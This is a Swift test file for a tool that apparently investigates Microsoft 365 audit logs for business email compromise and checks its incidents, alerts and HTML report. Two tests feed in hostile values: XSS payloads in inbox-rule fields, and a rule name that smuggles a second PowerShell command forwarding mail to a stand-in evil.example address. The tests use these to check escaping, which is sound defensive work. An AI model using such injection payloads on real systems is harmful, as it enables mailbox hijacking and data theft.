import BreakwaterModel
import BreakwaterTesting
import Foundation
import M365Simulator
import Testing

/// `breakwater investigate` as an operator runs it, on a realistic month of a company with
/// the seed story inside it, on the hand-written sample exports, and on hostile input.
@Suite("breakwater investigate")
struct InvestigateCommandTests {
    let runner = CommandRunner()

    /// A simulated month (written once for the suite): its files and what really happened.
    final class Month: Sendable {
        let directory: TemporaryDirectory
        let truth: ScenarioTruth

        init() throws {
            directory = try TemporaryDirectory()
            let scenario = Scenario(ScenarioConfiguration(seed: 2026))
            try ScenarioWriter.write(scenario, to: directory.path)
            truth = scenario.truth
        }

        func file(_ name: String) -> String { directory.file(name) }
    }

    static let month = Result { try Month() }

    /// The parsed JSON output.
    struct Output: Decodable {
        struct Incident: Decodable {
            var id: String
            var user: String
            var severity: String
            var attacker_ips: [String]
            var sessions: [String]
            var footprint: Footprint?
            var checklist: [Step]
        }

        struct Footprint: Decodable {
            struct Rule: Decodable {
                var name: String
                var actions: [String]
                var conditions: [String]
            }

            var inboxRules: [Rule]
            var filesDownloaded: [String]
            var filesShared: [String]
            var teamsJoined: [String]
            var mailSent: [String]
            var mailItemsAccessed: Int
        }

        struct Step: Decodable {
            var title: String
            var items: [String]
        }

        struct Alert: Decodable {
            var id: String
            var detector: String
            var category: String
            var severity: String
            var tenant: String
            var user: String?
            var time: String
            var ip: String?
            var evidence: [String]
            var attack: [String]
            var summary: String
        }

        var incidents: [Incident]
        var alerts: [Alert]
    }

    func investigate(_ arguments: [String]) throws -> (Output, CommandRunner.Outcome) {
        let result = try runner.run(["investigate", "--format", "json"] + arguments)
        #expect(result.status == 0, "\(result.standardError)")
        return (try JSONDecoder().decode(Output.self, from: Data(result.standardOutput.utf8)), result)
    }

    static let serious: Set<String> = ["medium", "high", "critical"]

    /// The acceptance of the detection issue, for one set of files of the month.
    func checkMonth(_ output: Output, truth: ScenarioTruth) throws {
        let attack = try #require(truth.attack)
        // One high or critical incident: the victim's.
        let serious = output.incidents.filter { Self.serious.contains($0.severity) }
        #expect(serious.count == 1, "\(serious.map(\.user))")
        let incident = try #require(serious.first)
        #expect(incident.user == attack.victim)
        // Listed first, ahead of the month's earlier, low incidents.
        #expect(output.incidents.first?.id == incident.id)
        #expect(output.incidents.count > 1)
        #expect(["high", "critical"].contains(incident.severity))
        // The attacker's addresses and session.
        #expect(Set(attack.attackerAddresses).isSubset(of: Set(incident.attacker_ips)), "\(incident.attacker_ips)")
        #expect(incident.sessions.contains(attack.attackerSessionID))
        // The rule to remove, with what it does.
        let footprint = try #require(incident.footprint)
        let rule = try #require(footprint.inboxRules.first { $0.name == attack.ruleName })
        #expect(rule.actions.contains { $0.contains(attack.ruleFolder) })
        let removal = incident.checklist[2].items.joined(separator: "\n")
        #expect(removal.contains("Remove-InboxRule -Mailbox '\(attack.victim)' -Identity '\(attack.ruleName)'"))
        // The files touched.
        let downloaded = Set(attack.downloadedFiles.map { $0.split(separator: "/").last.map(String.init) ?? $0 })
        let reported = Set(footprint.filesDownloaded.map { $0.split(separator: "/").last.map(String.init) ?? $0 })
        #expect(downloaded.isSubset(of: reported), "\(downloaded.subtracting(reported))")
        #expect(footprint.filesShared.contains { $0.contains(attack.anonymousLinkFile.split(separator: "/").last.map(String.init) ?? "") })
        #expect(Set(attack.teamsJoined).isSubset(of: Set(footprint.teamsJoined)))
        #expect(footprint.mailSent.contains(attack.payrollSubject))
        #expect(footprint.mailItemsAccessed > 0)
        // Nothing medium or higher for anybody else: travellers, VPN users, newsletter rules, the backup job.
        let others = output.alerts.filter { Self.serious.contains($0.severity) && $0.user != attack.victim }
        #expect(others.isEmpty, "\(others.map { "\($0.category) \($0.user ?? "-"): \($0.summary)" })")
        let ordinary = Set(truth.travellers.map(\.userPrincipalName) + truth.proxyUsers + truth.filingRules.map(\.userPrincipalName) + [truth.backupAccount])
        #expect(!ordinary.contains(attack.victim))
    }

    @Test("a month of the audit log and Graph sign-ins: one incident, the victim's, with the attacker's address, rule and files")
    func monthFromJSONLines() throws {
        let month = try Self.month.get()
        let (output, _) = try investigate([month.file("audit.jsonl"), month.file("signins.jsonl")])
        try checkMonth(output, truth: month.truth)
    }

    @Test("the same month from a Purview CSV export alone (no Graph sign-ins) tells the same story")
    func monthFromPurviewExport() throws {
        let month = try Self.month.get()
        let (output, _) = try investigate([month.file("audit-purview.csv")])
        try checkMonth(output, truth: month.truth)
    }

    @Test("every alert has the documented fields")
    func alertFields() throws {
        let month = try Self.month.get()
        let (output, _) = try investigate([month.file("audit.jsonl"), month.file("signins.jsonl")])
        #expect(!output.alerts.isEmpty)
        let severities: Set<String> = ["informational", "low", "medium", "high", "critical"]
        for alert in output.alerts {
            #expect(severities.contains(alert.severity))
            #expect(!alert.evidence.isEmpty && !alert.attack.isEmpty && !alert.summary.isEmpty)
            #expect(alert.detector.split(separator: ".").count == 3)
            #expect(Timestamp(iso8601: alert.time) != nil)
            #expect(TenantID(alert.tenant) != nil)
            #expect(alert.attack.allSatisfy { $0.hasPrefix("T") })
        }
        #expect(Set(output.alerts.map(\.id)).count == output.alerts.count, "alert ids are unique")
    }

    @Test("the hand-written sample exports (not the simulator's) tell the story too, as text")
    func sampleStory() throws {
        let samples = Fixture.path("../../../samples/contoso-bec")
        let result = try runner.run([
            "investigate", "\(samples)/normal-activity.json", "\(samples)/purview-export-megan-bowen.csv",
        ])
        #expect(result.status == 0, "\(result.standardError)")
        #expect(!result.standardOutput.contains("\u{1B}"))
        Golden.check(result.standardOutput, named: "investigate-sample.txt")
    }

    @Test("--fail-on sets exit status 2 when something that severe is found, 0 otherwise")
    func failOn() throws {
        let story = Fixture.path("bec-story.jsonl")
        #expect(try runner.run(["investigate", "--fail-on", "high", story]).status == 2)
        let directory = try TemporaryDirectory()
        let quiet = try directory.write("quiet.jsonl", Array(try String(contentsOfFile: story, encoding: .utf8).split(separator: "\n").prefix(2).joined(separator: "\n").utf8))
        #expect(try runner.run(["investigate", "--fail-on", "medium", quiet]).status == 0)
    }

    @Test("a configuration with problems is refused with every problem listed")
    func badConfiguration() throws {
        let directory = try TemporaryDirectory()
        let config = try directory.write("config.yaml", Array("allowed_countries: [GBR]\ncolour: blue\n".utf8))
        let result = try runner.run(["investigate", "--config", config, Fixture.path("bec-story.jsonl")])
        #expect(result.status != 0)
        #expect(result.standardError.contains("'GBR' is not a two-letter"))
        #expect(result.standardError.contains("unknown setting 'colour'"))
    }

    @Test("the HTML report is self-contained and escapes what the attacker wrote")
    func hostileReport() throws {
        let directory = try TemporaryDirectory()
        let tenant = "9f1c7b2e-4a8d-4c3f-b5e6-2d7a8c9e0f11"
        func record(_ id: Int, _ operation: String, _ fields: String) -> String {
            """
            {"CreationTime":"2026-11-20T09:\(10 + id):00","Id":"3b0a1e1c-1111-4a5b-8c6d-0000000000\(10 + id)","Operation":"\(operation)",\
            "OrganizationId":"\(tenant)","RecordType":1,"UserKey":"1","UserType":0,"Version":1,"Workload":"Exchange",\
            "UserId":"megan.bowen@contoso.com","ResultStatus":"True","ClientIP":"45.148.10.77",\(fields)}
            """
        }
        let lines = [
            record(
                1, "New-InboxRule",
                #""Parameters":[{"Name":"Name","Value":"<script>alert(1)</script>"},{"Name":"MoveToFolder","Value":"RSS Feeds"},{"Name":"DeleteMessage","Value":"True"},{"Name":"SubjectContainsWords","Value":"\"><img src=x onerror=alert(2)>"}]"#
            ),
            record(
                2, "Set-Mailbox",
                #""Parameters":[{"Name":"ForwardingSmtpAddress","Value":"smtp:x@evil.example<style>"},{"Name":"DeliverToMailboxAndForward","Value":"False"}]"#
            ),
        ]
        let input = try directory.write("hostile.jsonl", Array(lines.joined(separator: "\n").utf8))
        let report = directory.file("report.html")
        let result = try runner.run(["investigate", "--report", report, input])
        #expect(result.status == 0, "\(result.standardError)")
        let html = try String(contentsOfFile: report, encoding: .utf8)
        #expect(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"))
        #expect(!html.contains("<script"))
        #expect(!html.contains("<img"))
        #expect(!html.contains("evil.example<style>"))
        #expect(html.contains("Content-Security-Policy"))
        #expect(!html.contains("src=\"http") && !html.contains("href=\"http"), "nothing is loaded from elsewhere")
    }

    @Test("a rule name cannot close the quotes of the removal command and append its own", arguments: ["'", "\u{2018}", "\u{2019}", "\u{201A}", "\u{201B}"])
    func quotedRuleName(quote: String) throws {
        let directory = try TemporaryDirectory()
        let name = "x\(quote); Set-Mailbox megan -ForwardingSmtpAddress thief@evil.example; \(quote)"
        let parameters = [["Name": "Name", "Value": name], ["Name": "MoveToFolder", "Value": "RSS Feeds"], ["Name": "DeleteMessage", "Value": "True"]]
        let record: [String: Any] = [
            "CreationTime": "2026-11-20T09:10:00", "Id": "3b0a1e1c-1111-4a5b-8c6d-000000000011", "Operation": "New-InboxRule",
            "OrganizationId": "9f1c7b2e-4a8d-4c3f-b5e6-2d7a8c9e0f11", "RecordType": 1, "UserType": 0, "Workload": "Exchange",
            "UserId": "megan.bowen@contoso.com", "ResultStatus": "True", "ClientIP": "45.148.10.77", "Parameters": parameters,
        ]
        let input = try directory.write("rule.jsonl", Array(try JSONSerialization.data(withJSONObject: record)))
        let (output, _) = try investigate([input])
        let removal = try #require(output.incidents.flatMap { $0.checklist.flatMap(\.items) }.first { $0.contains("Remove-InboxRule") })
        #expect(removal.contains("-Identity 'x\(quote)\(quote); Set-Mailbox megan -ForwardingSmtpAddress thief@evil.example; \(quote)\(quote)'"), "\(removal)")
    }

    @Test("files or an archive, not neither nor both")
    func validation() throws {
        #expect(try runner.run(["investigate"]).status != 0)
        #expect(try runner.run(["investigate", "--db", "/tmp/x.sqlite", Fixture.path("bec-story.jsonl")]).status != 0)
        let directory = try TemporaryDirectory()
        let mistyped = try runner.run(["investigate", "--db", directory.file("no-such-archive.sqlite"), "--fail-on", "high"])
        #expect(mistyped.status == 1 || mistyped.status == 64, "a missing archive is an error, not a clean bill of health")
        #expect(mistyped.standardError.contains("no archive"), "\(mistyped.standardError)")
        #expect(!FileManager.default.fileExists(atPath: directory.file("no-such-archive.sqlite")))
    }

    @Test("investigates an archive, one tenant, from a time")
    func archive() throws {
        let directory = try TemporaryDirectory()
        let path = directory.file("a.sqlite")
        #expect(try runner.run(["import", "--db", path, Fixture.path("bec-story.jsonl")]).status == 0)
        let (output, _) = try investigate(["--db", path, "--tenant", "9f1c7b2e-4a8d-4c3f-b5e6-2d7a8c9e0f11", "--since", "2026-11-20T00:00:00Z"])
        #expect(output.incidents.contains { $0.user == "megan.bowen@contoso.com" && Self.serious.contains($0.severity) })
        let (other, _) = try investigate(["--db", path, "--tenant", "00000000-0000-4000-8000-000000000000"])
        #expect(other.alerts.isEmpty)
    }
}

@Suite("breakwater detectors")
struct DetectorsCommandTests {
    let runner = CommandRunner()

    @Test("runs every detector's examples and says they pass")
    func test() throws {
        let result = try runner.run(["detectors", "test"])
        #expect(result.status == 0, "\(result.standardOutput)")
        #expect(result.standardOutput.contains("examples passed across"))
    }

    @Test("explains a detector, with its thresholds")
    func show() throws {
        let result = try runner.run(["detectors", "show", "SharePoint.File.MassDownload"])
        #expect(result.status == 0)
        #expect(result.standardOutput.contains("distinct_files = 25"))
        #expect(try runner.run(["detectors", "show", "No.Such.Detector"]).status != 0)
    }
}
